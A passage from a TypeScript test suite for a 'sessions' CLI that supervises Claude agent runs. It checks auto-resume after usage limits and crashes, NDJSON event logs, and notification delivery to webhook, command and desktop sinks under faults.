      env: { MOCK_PACE: '0.5', MOCK_END: 'agent-fail:2', MOCK_AGENT_SAYS: `Claude AI usage limit reached|${resets / 1000}` },
    })
    await waitFor('the limit told', () => delivered(out, ['limited']).length === 1, 20_000)
    const limited = ndjson(out).find((event) => event.event === 'limited')!
    expect(limited.why).toMatch(/^stopped, its engine calling it again: "Claude AI usage limit reached\|\d+": resuming it at /)
    expect(Date.parse(String(limited.resets_at))).toBe(resets)
    await waitFor('resumed after the reset, and complete', () => delivered(out).includes('judged complete'), 40_000)
    expect(delivered(out, ['limited', 'auto_resumed', 'complete'])).toEqual(['judged limited', 'judged auto_resumed', 'judged complete'])
    const resumed = ndjson(out).find((event) => event.event === 'auto_resumed')!
    expect(Date.parse(String(resumed.ts))).toBeGreaterThanOrEqual(resets)
    // Stopped long before its max, killed; resumed at its first failed iteration, each one redone.
    const kept = readdirSync(path.join(root, '.claude', 'pipeline-runs', 'judged')).filter((name) =>
      name.startsWith('state.before-resume-'),
    )
    const before = readJson(path.join(path.join(root, '.claude', 'pipeline-runs', 'judged'), kept[0]))
    expect(before.status).toBe('killed')
    expect(before.history.length).toBeLessThan(15)
    const state = readJson(path.join(path.join(root, '.claude', 'pipeline-runs', 'judged'), 'state.json'))
    expect(state.history.map((entry: { iteration: number; decision: string }) => `${entry.iteration} ${entry.decision}`)).toEqual(
      Array.from({ length: 20 }, (_, i) => `${i + 1} continue`),
    )
    expect(await sup.stop()).toBe(0)
  })

  test('crashing again and again: given up after the cap, still after a restart; a bad policy is refused', async () => {
    const root = await makeEngineProject()
    const out = path.join(root, 'events.ndjson')
    for (const bad of [
      ['--backoff', '5m..1m'],
      ['--backoff', '30s'],
      ['--resume-on', 'killed'],
      ['--within', '0'],
      ['--max-resumes', '0'],
    ]) {
      const run = await cli(['supervise', ...bad, '-C', root])
      expect([run.code, run.stderr.split('\n').length], bad.join(' ')).toEqual([2, 2])
    }
    expect(existsSync(path.join(root, '.claude', 'sessions-notify.json'))).toBe(false)
    // Every engine this supervisor resumes crashes in its second iteration: on a loaded machine, before its
    // resume has seen it settle (auto_resume_failed) or after (auto_resumed); either is an attempt.
    const crashing = { MOCK_PACE: '1', MOCK_END: 'crash:2' }
    const attempts = () => delivered(out).filter((line) => /^boom auto_resume(d|_failed)$/.test(line)).length
    const args = ['--exec', `cat >> ${out}`, '--max-resumes', '2', '--backoff', '0.2s..0.4s', '--interval', '0.2', '-C', root]
    const first = watcher(args, crashing, 'supervise')
    await waitFor('the first look', () => first.out.stdout.includes('watching'))
    await startOk(['start', 'ralph', 'boom', '20', '--yes', '-C', root], { env: crashing })
    await waitFor('the supervisor to give up', () => delivered(out).includes('boom gave_up'), 30_000)
    expect([attempts(), delivered(out).at(-1)]).toEqual([2, 'boom gave_up'])
    expect(ndjson(out).at(-1)!.why).toMatch(
      /^2 resumes within 6h, the most allowed: crashed \(.*\); resume it yourself once its cause is fixed$/,
    )
    expect(await first.stop()).toBe(0)
    // A supervisor started again keeps what the first one did: it does not try again.
    const second = watcher(args, crashing, 'supervise')
    await waitFor('the second first look', () => second.out.stdout.includes('watching'))
    await startOk(['start', 'ralph', 'marker', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the marker', () => delivered(out).includes('marker complete'))
    expect([attempts(), delivered(out).slice(-2)]).toEqual([2, ['boom gave_up', 'marker complete']])
    expect(await second.stop()).toBe(0)
    const record = readJson(path.join(root, '.claude', 'sessions-notify.json'))
    expect(record.supervision.find((one: { session: string }) => one.session === 'boom')).toMatchObject({
      attempts: [expect.any(Object), expect.any(Object)],
      gave_up_at: expect.any(String),
    })
    // status says what the supervisor did for it.
    const status = JSON.parse((await cli(['status', 'boom', '--json', '-C', root])).stdout)
    expect(status.supervision).toMatchObject({ attempts: [{}, {}], next_at: null, gave_up_at: expect.any(String) })
    expect((await cli(['status', 'boom', '-C', root], { columns: 200 })).stdout).toMatch(
      /supervisor +resumed 2 times(?: \(\d failed\))?, last at [\d:-]+ [\d:]+; gave up at [\d:-]+ [\d:]+: resume it yourself/,
    )
    // events tells it afterwards.
    const told = (await cli(['events', 'boom', '--json', '-C', root])).stdout
    expect(told.match(/"event":"(auto_resumed|auto_resume_failed|gave_up)"/g)?.length).toBe(3)
  })
})

describe('events and notify', () => {
  test('events: what happened, from the files, oldest first; --json is NDJSON with the documented fields; --since filters', async () => {
    const root = await makeEngineProject()
    await startOk(['start', 'ralph', 'done', '3', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    // boom runs a second before it crashes: its start, on a loaded machine, must see it settle first.
    expect((await cli(['start', 'ralph', 'boom', '5', '--yes', '-C', root], { env: { MOCK_PACE: '1', MOCK_END: 'crash:2' } })).code).toBe(0)
    await startOk(['start', 'pipeline', 'refine.yaml', 'pipe', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('all three ended', async () => (await listJson(root)).sessions.every((row) => row.health !== 'running'))
    const run = await cli(['events', '--json', '-C', root])
    expect(run.stderr).toBe('')
    expect(run.code).toBe(0)
    const lines = run.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line))
    for (const line of lines)
      expect(Object.keys(line)).toEqual([
        'ts',
        'project',
        'session',
        'event',
        'health',
        'iteration',
        'max_iterations',
        'stage',
        'why',
        'summary',
        'decision',
        'stop_votes',
        'progress',
        'eta',
        'cost_usd',
        'budget_usd',
        'resets_at',
      ])
    const of = (name: string) =>
      lines.filter((line) => line.session === name).map((line) => `${line.event}${line.event === 'iteration' ? line.iteration : ''}`)
    expect(of('done')).toEqual(['started', 'iteration1', 'iteration2', 'iteration3', 'complete'])
    expect(of('boom')).toEqual(['started', 'iteration1', 'crashed'])
    expect(of('pipe')).toEqual(['started', 'iteration1', 'iteration2', 'stage', 'iteration1', 'iteration2', 'complete'])
    expect(lines.find((line) => line.session === 'pipe' && line.event === 'stage')).toMatchObject({
      stage: 'refine-tasks',
      why: 'stage 2/2',
    })
    expect(lines.find((line) => line.session === 'boom' && line.event === 'crashed')).toMatchObject({
      project: root,
      health: 'crashed',
      iteration: 2,
      max_iterations: 5,
      why: expect.stringMatching(/^lock left with dead PID \d+$/),
    })
    expect(lines.find((line) => line.session === 'done' && line.event === 'iteration')).toMatchObject({
      summary: 'Mock iteration 1 completed',
      why: 'continue: mock',
    })
    const times = lines.map((line) => Date.parse(line.ts))
    expect(times).toEqual([...times].sort((a, b) => a - b))
    // Named sessions only; text on a terminal-less stdout; nothing since a minute from now.
    const one = await cli(['events', 'boom', '-C', root])
    expect(one.stdout).toMatch(/^\d\d:\d\d:\d\d {2}boom {2}started {4}ralph loop, max 5\n/)
    expect(one.stdout).toMatch(/ {2}boom {2}crashed {4}iteration 2\/5 · lock left with dead PID \d+\n$/)
    expect((await cli(['events', '--since', new Date(Date.now() + 60_000).toISOString(), '-C', root])).stdout).toBe('No events.\n')
    expect((await cli(['events', '--since', '1d', '--json', '-C', root])).stdout).toBe(run.stdout)
    const unknown = await cli(['events', 'nobody', '-C', root])
    expect(unknown.code).toBe(1)
    expect(unknown.stderr).toMatch(/^sessions: no session nobody in .*; its sessions: boom, done, pipe\n$/)
  })

  test('notify: one complete, one crashed, one stalled per sink (a webhook that fails twice first, a command, a desktop stand-in)', async () => {
    const root = await makeEngineProject()
    const hook = await hookServer({ failFirst: 2 })
    const execOut = path.join(root, 'exec.ndjson')
    const bin = path.join(root, 'bin')
    mkdirSync(bin)
    writeFileSync(path.join(bin, 'notify-send'), `#!/bin/sh\nprintf '%s\\n' "$@" >> ${JSON.stringify(path.join(root, 'desktop.txt'))}\n`, {
      mode: 0o755,
    })
    const env = { PATH: `${bin}:${ENV.PATH}` }
    const exec = `cat >> ${execOut}; echo "$SESSIONS_EVENT $SESSIONS_SESSION: $SESSIONS_TEXT" >> ${path.join(root, 'exec-env.txt')}`
    const watch = watcher(['--webhook', hook.url, '--exec', exec, '--desktop', '--interval', '0.3', '--stall', '0.05', '-C', root], env)
    await waitFor('the first look', () => watch.out.stdout.includes('watching'))
    await startOk(['start', 'ralph', 'done', '2', '--yes', '-C', root], { env: { MOCK_PACE: '0.2' } })
    const { enginePid } = await startHungAgent(root, 'boom')
    process.kill(enginePid, 'SIGKILL')
    await startOk(['start', 'ralph', 'stuck', '--yes', '-C', root], { env: { MOCK_END: 'hang:1' } })
    await waitFor(
      'complete, crashed and stalled at every sink',
      () =>
        ['done complete', 'boom crashed', 'stuck stalled'].every((what) => {
          const [name, kind] = what.split(' ')
          return count(ndjson(execOut) as never, name, kind) && count(hook.received.map((r) => r.event) as never, name, kind)
        }),
      30_000,
    )
    // A repair of the crashed session (its lock removed, its state marked) is not a second end. Looks are in
    // order: once a session started after the repair is reported, the repair has been looked at.
    expect((await cli(['cleanup', '--yes', '-C', root])).code).toBe(0)
    await startOk(['start', 'ralph', 'after', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the later session', () => count(ndjson(execOut) as never, 'after', 'complete'))
    expect(await watch.stop()).toBe(0)
    const delivered = { exec: ndjson(execOut), webhook: hook.received.map((r) => r.event) }
    for (const events of Object.values(delivered)) {
      expect(count(events as never, 'done', 'complete')).toBe(1)
      expect(count(events as never, 'boom', 'crashed')).toBe(1)
      expect(count(events as never, 'stuck', 'stalled')).toBe(1)
      // Only the default kinds: no iterations, no starts; and boom ended once.
      expect(events.filter((event) => ['started', 'iteration', 'zombie'].includes(event.event as string))).toEqual([])
    }
    // The webhook: two failures, then the first event; every body is { text, event }, text one line.
    expect(hook.requests()).toBe(2 + hook.received.length)
    for (const body of hook.received) {
      expect(Object.keys(body)).toEqual(['text', 'event'])
      expect(body.text).not.toContain('\n')
      expect(body.event.late).toBe(false)
    }
    const crashed = hook.received.find((body) => body.event.event === 'crashed')!
    expect(crashed.text).toMatch(
      new RegExp(`^boom crashed at iteration 2/25 in ${escaped(root)}: lock left with dead PID ${enginePid} — resume: .* resume boom`),
    )
    // The command: the event on stdin, its kind, session and text in the environment.
    expect(readFileSync(path.join(root, 'exec-env.txt'), 'utf8')).toContain(`complete done: done complete at iteration 2/2 in ${root}`)
    // The desktop: a title and the text.
    const desktop = readFileSync(path.join(root, 'desktop.txt'), 'utf8')
    // `--` before them: a session named -x is never taken for an option.
    expect(desktop).toContain('--app-name=sessions.ts\n--\nsessions: done complete\n')
    expect(desktop.match(/^sessions: boom crashed$/gm)).toHaveLength(1)
    expect(watch.out.stderr).toBe('')
    expect(watch.out.stdout).toMatch(/first look: what happens from now on is delivered\n/)
    expect(watch.out.stdout).toMatch(/stopped: \d+ event\(s\), \d+ delivered, 0 failed\n$/)
    // events now has the watcher's sightings: boom crashed once, when the watcher saw it.
    const history = (await cli(['events', 'boom', '--json', '-C', root])).stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
    expect(history.filter((event) => event.event === 'crashed')).toEqual([
      expect.objectContaining({ ts: (delivered.exec.find((e) => e.event === 'crashed' && e.session === 'boom') as { ts: string }).ts }),
    ])
  })

  test('a run that failed and was resumed while no watcher ran: its failure is delivered late, once, before its resume', async () => {
    const root = await makeEngineProject()
    const file = path.join(root, 'got.ndjson')
    const sink = ['--exec', `cat >> ${file}`, '--on', 'started,failed,resumed', '--interval', '0.3', '-C', root]
    const got = () => ndjson(file) as { event: unknown; session: unknown }[]
    const first = watcher(sink)
    await waitFor('the first look', () => first.out.stdout.includes('watching'))
    // Iteration 2 fails 1.5 s into it: the watcher has seen the run start long before, then stops.
    await startOk(['start', 'ralph', 'phoenix', '3', '--yes', '-C', root], { env: { MOCK_PACE: '3', MOCK_END: 'fail:2' } })
    await waitFor('the start seen', () => count(got(), 'phoenix', 'started') === 1)
    // Stopped once it has recorded that delivery (stopped before, it could not know it arrived: at least once).
    await waitFor('the delivery recorded', () =>
      readJson(path.join(root, '.claude/sessions-notify.json')).deliveries.some(
        (d: { id: string; ok: boolean }) => d.ok && d.id.startsWith('started\tphoenix\t'),
      ),
    )
    expect(await first.stop()).toBe(0)
    await waitFor('the failure', async () => rowOf((await listJson(root)).sessions, 'phoenix').health === 'failed', 20_000)
    expect(count(got(), 'phoenix', 'failed')).toBe(0)
    await startOk(['resume', 'phoenix', '--yes', '-C', root], { env: { MOCK_PACE: '0.3', MOCK_END: 'hang:3' } })
    const second = watcher(sink)
    await waitFor('the late events', () => ndjson(file).length >= 3).catch((error) => {
      throw new Error(`${error.message}: ${JSON.stringify(ndjson(file))} ${second.out.stdout} ${second.out.stderr}`)
    })
    // A few more looks: nothing twice.
    await new Promise((resolve) => setTimeout(resolve, 1000))
    expect(await second.stop()).toBe(0)
    expect(ndjson(file).map((event) => [event.event, event.iteration, event.late ?? false])).toEqual([
      ['started', null, false],
      ['failed', 2, true],
      ['resumed', 2, true],
    ])
    expect(ndjson(file)[1].why).toBe('Claude process exited with code 3')
    // events, from the files and the watcher's record: the same story, the failure once.
    const told = (await cli(['events', 'phoenix', '--json', '-C', root])).stdout
    const kinds = told
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line).event)
    expect(kinds.slice(0, 4)).toEqual(['started', 'iteration', 'failed', 'resumed'])
    expect(kinds.filter((kind) => kind === 'failed')).toHaveLength(1)
    // Where no watcher ever ran: events tells the same, from the files alone.
    const alone = await makeEngineProject()
    await startOk(['start', 'ralph', 'ash', '2', '--yes', '-C', alone], { env: { MOCK_PACE: '0', MOCK_END: 'fail:2' } })
    // Resumed in a later second (the engine's times are to the second, and a real iteration takes minutes).
    await new Promise((resolve) => setTimeout(resolve, 1100))
    await startOk(['resume', 'ash', '--yes', '-C', alone], { env: { MOCK_PACE: '0' } })
    await waitFor('its end', async () => rowOf((await listJson(alone)).sessions, 'ash').health === 'complete')
    const filed = (await cli(['events', '--json', '-C', alone])).stdout
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line))
    expect(filed.map((event) => [event.event, event.iteration])).toEqual([
      ['started', null],
      ['iteration', 1],
      ['failed', 2],
      ['resumed', 2],
      ['iteration', 2],
      ['complete', 2],
    ])
  })

  test('a restarted watcher delivers what happened while it was down, once, marked late; a second watcher is refused', async () => {
    const root = await makeEngineProject()
    const hook = await hookServer()
    const first = watcher(['--webhook', hook.url, '--interval', '0.3', '-C', root])
    await waitFor('the first look', () => first.out.stdout.includes('watching'))
    expect(await first.stop()).toBe(0)
    // While no watcher runs: one session completes, another fails.
    await startOk(['start', 'ralph', 'quiet', '2', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await startOk(['start', 'ralph', 'bad', '3', '--yes', '-C', root], { env: { MOCK_PACE: '0.1', MOCK_END: 'fail:2' } })
    await waitFor('both ended', async () =>
      (await listJson(root)).sessions.every((row) => row.health === 'complete' || row.health === 'failed'),
    )
    const second = watcher(['--webhook', hook.url, '--interval', '0.3', '-C', root])
    await waitFor('the late events', () => hook.received.length >= 2)
    const again = await cli(['notify', '--exec', 'true', '-C', root])
    expect(again.code).toBe(1)
    expect(again.stderr).toMatch(
      new RegExp(`^sessions: a watcher already runs for ${escaped(root)} \\(PID ${process.pid}\\); stop it with: .*notify --stop`),
    )
    // Looks are in order: once a session started now is reported, the late ones have been looked at again.
    await startOk(['start', 'ralph', 'now', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the session started now', () => hook.received.length >= 3)
    // Stopped only once it has recorded that delivery: stopped between the webhook's receipt and its answer,
    // a watcher cannot know that it arrived, and the next one delivers it again, late (at least once).
    await waitFor('the delivery recorded', () =>
      readJson(path.join(root, '.claude/sessions-notify.json')).deliveries.some(
        (d: { id: string; ok: boolean }) => d.ok && d.id.startsWith('complete\tnow\t'),
      ),
    )
    expect(await second.stop()).toBe(0)
    expect(second.out.stdout).toMatch(/2 event\(s\) happened while no watcher ran: delivered now, marked late\n/)
    // The late ones first (oldest first: the same second here, so in either order), then the news.
    const got = hook.received.map((body) => [body.event.session, body.event.event, body.event.late])
    expect([...got.slice(0, 2)].sort()).toEqual([
      ['bad', 'failed', true],
      ['quiet', 'complete', true],
    ])
    expect(got[2]).toEqual(['now', 'complete', false])
    expect(hook.received.find((body) => body.event.session === 'bad')!.text).toMatch(
      /^\[late\] bad failed at iteration 2\/3 in .*: Claude process exited with code 3 — resume: /,
    )
    // A third run: nothing new, nothing twice (up to the next session's end, reported after them all).
    const third = watcher(['--webhook', hook.url, '--interval', '0.3', '-C', root])
    await waitFor('the third look', () => third.out.stdout.includes('watching'))
    await startOk(['start', 'ralph', 'last', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the last session', () => hook.received.length >= 4)
    expect(await third.stop()).toBe(0)
    expect(hook.received.slice(2).map((body) => [body.event.session, body.event.late])).toEqual([
      ['now', false],
      ['last', false],
    ])
    expect(third.out.stdout).not.toContain('late')
  })

  test('a webhook that never answers times out and is retried, then logged; the other sinks still get the event', async () => {
    const root = await makeEngineProject()
    const hook = await hookServer({ silent: true })
    const execOut = path.join(root, 'exec.ndjson')
    const watch = watcher([
      '--webhook',
      hook.url,
      '--exec',
      `cat >> ${execOut}`,
      '--timeout',
      '0.5',
      '--retries',
      '1',
      '--interval',
      '0.3',
      '-C',
      root,
    ])
    await waitFor('the first look', () => watch.out.stdout.includes('watching'))
    await startOk(['start', 'ralph', 'quick', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the failure', () => watch.out.stderr.includes('not delivered'), 20_000).catch((error) => {
      throw new Error(`${error.message}; the watcher said: ${JSON.stringify(watch.out)}`)
    })
    expect(await watch.stop()).toBe(0)
    expect(hook.requests()).toBe(2)
    expect(watch.out.stderr).toBe(
      `sessions: webhook ${new URL(hook.url).origin}/…: quick complete not delivered after 2 attempt(s): no answer within 0.5 s\n`,
    )
    // The URL's secret path is never printed nor kept.
    expect(watch.out.stdout).not.toContain('secret')
    expect(readFileSync(path.join(root, '.claude/sessions-notify.json'), 'utf8')).not.toContain('secret')
    expect(ndjson(execOut).map((event) => event.event)).toEqual(['complete'])
  })

  test('notify --detach: its own tmux session, never listed nor cleaned up; --stop ends it; SIGTERM ends a watcher cleanly', async () => {
    const root = await makeEngineProject('crashed-loop')
    const execOut = path.join(root, 'exec.ndjson')
    const detached = cliProcess(['notify', '--exec', `cat >> ${execOut}`, '--interval', '0.3', '--detach', '--json', '-C', root])
    expect(detached.stderr).toBe('')
    expect(detached.code).toBe(0)
    expect(JSON.parse(detached.stdout)).toMatchObject({ action: 'detached', tmux_session: 'sessions-notify', pid: expect.any(Number) })
    expect(tmuxSessionNames()).toContain('sessions-notify')
    expect((await listJson(root)).sessions.map((row) => row.name)).toEqual(['busy'])
    expect((await cli(['cleanup', '--yes', '-C', root])).code).toBe(0)
    expect(tmuxSessionNames()).toContain('sessions-notify')
    const { pid } = JSON.parse(detached.stdout)
    expect(isPidAlive(pid)).toBe(true)
    // It says how to stop it and where to read it; list shows that it runs, and where it delivers.
    expect(JSON.parse(detached.stdout).next.map((n: { command: string }) => n.command)).toEqual([
      expect.stringMatching(/ notify --stop -C /),
      `tmux -L ${SOCKET} attach -r -t =sessions-notify`,
      expect.stringMatching(/ events --since 1h -C /),
    ])
    const watching = await listJson(root)
    expect((watching as { watcher?: unknown }).watcher).toEqual({
      pid,
      since: expect.any(String),
      sinks: [`exec cat >> ${execOut}`],
      budgets: null,
      policy: null,
    })
    expect((await cli(['list', '-C', root])).stdout).toMatch(new RegExp(`\\nA watcher runs \\(PID ${pid}, since [^)]+\\) → exec cat >> `))
    // It delivers: a session started now completes.
    await startOk(['start', 'ralph', 'later', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the delivery', () => ndjson(execOut).length === 1)
    const stop = await cli(['notify', '--stop', '-C', root])
    expect(stop.code).toBe(0)
    expect(stop.stdout).toBe(`Stopped the watcher (PID ${pid}); removed tmux session sessions-notify.\n`)
    expect(tmuxSessionNames()).not.toContain('sessions-notify')
    expect(existsSync(path.join(root, '.claude/sessions-notify.lock'))).toBe(false)
    expect((await cli(['notify', '--stop', '-C', root])).stdout).toBe(`No watcher runs for ${root}.\n`)
    expect(((await listJson(root)) as { watcher?: unknown }).watcher).toBeNull()

    // A watcher as a service manager runs it, ended by SIGTERM: exit 0, its record saved, its lock released.
    const child = spawn(NATIVE ? process.execPath : TSX, [SESSIONS, 'notify', '--exec', 'true', '--interval', '0.3', '-C', root], {
      env: ENV,
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    children.push(child)
    let output = ''
    child.stdout!.on('data', (chunk) => {
      output += chunk
    })
    await waitFor('the watcher', () => output.includes('watching'))
    child.kill('SIGTERM')
    const code = await new Promise((resolve) => child.on('exit', (status) => resolve(status)))
    expect(code).toBe(0)
    expect(output).toMatch(/stopped: 0 event\(s\), 0 delivered, 0 failed\n$/)
    expect(existsSync(path.join(root, '.claude/sessions-notify.lock'))).toBe(false)
    expect(JSON.parse(readFileSync(path.join(root, '.claude/sessions-notify.json'), 'utf8'))).toMatchObject({ version: 1, project: root })
  })

  test("a record that is not the watcher's (corrupt, another project's, a link out) is never trusted nor written through", async () => {
    const root = await makeEngineProject()
    const record = path.join(root, '.claude/sessions-notify.json')
    writeFileSync(record, '{"version": 1, "project": "/elsewhere", "marks": [], "log": [], "outbox": [], "deliveries": []}\n')
    const watch = watcher(['--exec', 'true', '--interval', '0.3', '-C', root])
    await waitFor('the first look', () => watch.out.stdout.includes('first look'))
    expect(await watch.stop()).toBe(0)
    expect(watch.out.stderr).toMatch(
      /^sessions: warning: the watcher's record is of \/elsewhere, not this project \(a copied folder\?\); starting afresh\n$/,
    )
    expect(readJson(record).project).toBe(root)
    // A link in its place, to a file outside the project: refused, and the file outside stays as it was.
    const outside = path.join(BASE, `outside-${projects}.json`)
    writeFileSync(outside, 'precious\n')
    rmSync(record)
    symlinkSync(outside, record)
    const linked = watcher(['--exec', 'true', '--interval', '0.3', '-C', root])
    await waitFor('the refusal', () => linked.out.stderr.includes('refusing'))
    expect(await linked.stop()).toBe(1)
    expect(linked.out.stderr).toMatch(/^sessions: refusing to use \.claude\/sessions-notify\.json: it is a symlink\n$/)
    expect(readFileSync(outside, 'utf8')).toBe('precious\n')
  })
})

describe('notify under faults: nothing twice, nothing lost, nothing held up', () => {
  test('a state unreadable for a while, and a kill under way, are not news: nothing twice, no false zombie', async () => {
    const root = await makeEngineProject()
    const out = path.join(root, 'exec.ndjson')
    const watch = watcher(['--on', 'all', '--exec', `cat >> ${out}`, '--interval', '0.1', '-C', root])
    await waitFor('the first look', () => watch.out.stdout.includes('watching'))
    await startOk(['start', 'ralph', 'done', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('its end', () => count(ndjson(out) as never, 'done', 'complete'))
    // Its state half written for a while, then whole again.
    const stateFile = path.join(root, '.claude/pipeline-runs/done/state.json')
    const whole = readFileSync(stateFile, 'utf8')
    writeFileSync(stateFile, '{"trunc')
    await new Promise((resolve) => setTimeout(resolve, 500))
    writeFileSync(stateFile, whole)
    // A kill: the engine gone a moment before its state says killed.
    await startOk(['start', 'ralph', 'victim', '20', '--yes', '-C', root], { env: { MOCK_PACE: '3' } })
    await waitFor('its start', () => count(ndjson(out) as never, 'victim', 'started'))
    expect((await cli(['kill', 'victim', '--grace', '2', '-C', root])).code).toBe(0)
    // Looks are in order: once a later session's end is in, the earlier ones have been looked at.
    await startOk(['start', 'ralph', 'last', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the last end', () => count(ndjson(out) as never, 'last', 'complete'))
    expect(await watch.stop()).toBe(0)
    const events = ndjson(out) as never
    expect(count(events, 'done', 'complete')).toBe(1)
    expect(count(events, 'done', 'started')).toBe(1)
    expect(count(events, 'victim', 'killed'), JSON.stringify(events)).toBe(1)
    expect(count(events, 'victim', 'zombie') + count(events, 'victim', 'crashed')).toBe(0)
  })

  test('a command that leaves a child behind, or runs past --timeout, holds nothing up; a stop gives up at once', async () => {
    const root = await makeEngineProject()
    const second = path.join(root, 'second.log')
    const watch = watcher([
      '--exec',
      'sleep 30 & echo background',
      '--exec',
      `cat >> ${second}`,
      '--timeout',
      '1',
      '--interval',
      '0.2',
      '-C',
      root,
    ])
    await waitFor('the first look', () => watch.out.stdout.includes('watching'))
    await startOk(['start', 'ralph', 'one', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await startOk(['start', 'ralph', 'two', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    // Both delivered to the second sink within seconds, not after the first sink's background child.
    await waitFor('both ends', () => ndjson(second).length === 2, 10_000)
    expect(watch.out.stderr).toBe('')
    expect(await watch.stop()).toBe(0)
    // A command that runs long, ended by the watcher's stop: it stops now, the event kept for later.
    const slow = watcher(['--exec', 'sleep 30', '--timeout', '60', '--interval', '0.2', '-C', root])
    await waitFor('the first look', () => slow.out.stdout.includes('watching'))
    await startOk(['start', 'ralph', 'three', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the delivery under way', () => readJson(path.join(root, '.claude/sessions-notify.json')).outbox.length === 1)
    const began = Date.now()
    expect(await slow.stop()).toBe(0)
    expect(Date.now() - began).toBeLessThan(5000)
    expect(readJson(path.join(root, '.claude/sessions-notify.json')).outbox).toHaveLength(1)
    // The background child the first command left is the command's own (a watcher never waits for it, nor
    // ends it): this test ends the ones it made.
    const left = processesOfThisSuite().filter(({ command }) => command === 'sleep 30')
    expect(left.length).toBeGreaterThan(0)
    for (const { pid } of left) process.kill(pid, 'SIGKILL')
  })

  test('the first watcher ever reports nothing of the past: not even an end that only a look sees (a crash)', async () => {
    const root = await makeProject('crashed-loop')
    expect(rowOf((await listJson(root)).sessions, 'busy').health).toBe('crashed')
    const got = path.join(root, 'got.ndjson')
    const watch = watcher(['--exec', `cat >> ${got}`, '--on', 'all', '--interval', '0.2', '-C', root])
    await waitFor('the first look', () => watch.out.stdout.includes('watching'))
    // Several looks more.
    await new Promise((resolve) => setTimeout(resolve, 1200))
    expect(await watch.stop()).toBe(0)
    expect(existsSync(got) ? readFileSync(got, 'utf8') : '').toBe('')
  })

  test('an error line read while the state still said running is kept: the run found resumed at the next look is told as failed, once', async () => {
    const root = await makeProject('running-loop')
    const got = path.join(root, 'got.ndjson')
    const watch = watcher(['--exec', `cat >> ${got}`, '--on', 'failed,resumed', '--interval', '0.2', '-C', root])
    await waitFor('the first look', () => watch.out.stdout.includes('watching'))
    const run = path.join(root, '.claude/pipeline-runs/busy')
    const iso = (ms: number) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z')
    // The engine's error line, its state not yet saying failed: what a look finds between the engine's two writes.
    const failedAt = Date.now()
    appendFileSync(
      path.join(run, 'events.jsonl'),
      `${JSON.stringify({ ts: iso(failedAt), type: 'error', session: 'busy', cursor: { node_path: '0', node_run: 3, iteration: 3 }, data: { message: 'Claude process exited with code 3', stage: 'improve-plan' } })}\n`,
    )
    const record = path.join(root, '.claude/sessions-notify.json')
    await waitFor('a look that read it', () => readJson(record).marks.find((mark: { session: string }) => mark.session === 'busy')?.failure)
    // Then it failed, and was resumed before any look saw the failure.
    const state = readJson(path.join(run, 'state.json'))
    writeFileSync(path.join(run, 'state.json'), JSON.stringify({ ...state, status: 'running', resumed_at: iso(failedAt + 2000) }))
    await waitFor('the failure and the resume', () => ndjson(got).length >= 2)
    await new Promise((resolve) => setTimeout(resolve, 600))
    expect(await watch.stop()).toBe(0)
    expect(ndjson(got).map((event) => [event.event, event.iteration, event.why])).toEqual([
      ['failed', 3, 'Claude process exited with code 3'],
      ['resumed', 3, 'resumed from iteration 3'],
    ])
  })

  test('an event whose line is longer than an environment holds still reaches --exec (the line cut, the event whole on stdin)', async () => {
    const root = await makeProject('empty')
    const got = path.join(root, 'got.txt')
    const watch = watcher([
      '--exec',
      `printf '%s' "$SESSIONS_TEXT" | wc -c >> ${got}; wc -c >> ${got}`,
      '--on',
      'failed',
      '--interval',
      '0.2',
      '-C',
      root,
    ])
    await waitFor('the first look', () => watch.out.stdout.includes('watching'))
    // A session that failed with a 300 kB message appears.
    const run = path.join(root, '.claude/pipeline-runs/broken')
    cpSync(path.join(LAYOUTS, 'failed-loop/.claude/pipeline-runs/broken'), run, { recursive: true })
    const state = readJson(path.join(run, 'state.json'))
    writeFileSync(path.join(run, 'state.json'), JSON.stringify({ ...state, error: { ...state.error, message: 'x'.repeat(300_000) } }))
    await waitFor('the delivery', () => existsSync(got) && readFileSync(got, 'utf8').trim().split('\n').length === 2)
    expect(await watch.stop()).toBe(0)
    expect(watch.out.stderr).toBe('')
    const [text, stdin] = readFileSync(got, 'utf8').trim().split('\n').map(Number)
    expect(text).toBe(8191 + 3) // and '…', three bytes
    expect(stdin).toBeGreaterThan(300_000)
  })

  test('each sink is recorded as it is done, so that a watcher killed meanwhile repeats nothing', async () => {
    const root = await makeEngineProject()
    const fast = path.join(root, 'fast.ndjson')
    const watch = watcher(['--exec', `cat >> ${fast}`, '--exec', 'sleep 30', '--timeout', '60', '--interval', '0.2', '-C', root])
    await waitFor('the first look', () => watch.out.stdout.includes('watching'))
    await startOk(['start', 'ralph', 'one', '1', '--yes', '-C', root], { env: { MOCK_PACE: '0.1' } })
    await waitFor('the fast sink', () => ndjson(fast).length === 1)
    // The record says so already: the event is left only for the slow sink.
    const record = await waitFor('the record', () => {
      const read = readJson(path.join(root, '.claude/sessions-notify.json'))
      return read.outbox.length === 1 && read.outbox[0].sinks.length === 1 ? read : null
    })
    expect(record.deliveries).toEqual([expect.objectContaining({ ok: true, sink: expect.stringMatching(/^exec /) })])
    expect(await watch.stop()).toBe(0)
  })

  test("notify --stop signals only this project's watcher: a lock naming another Node process is refused", async () => {
    const root = await makeEngineProject()
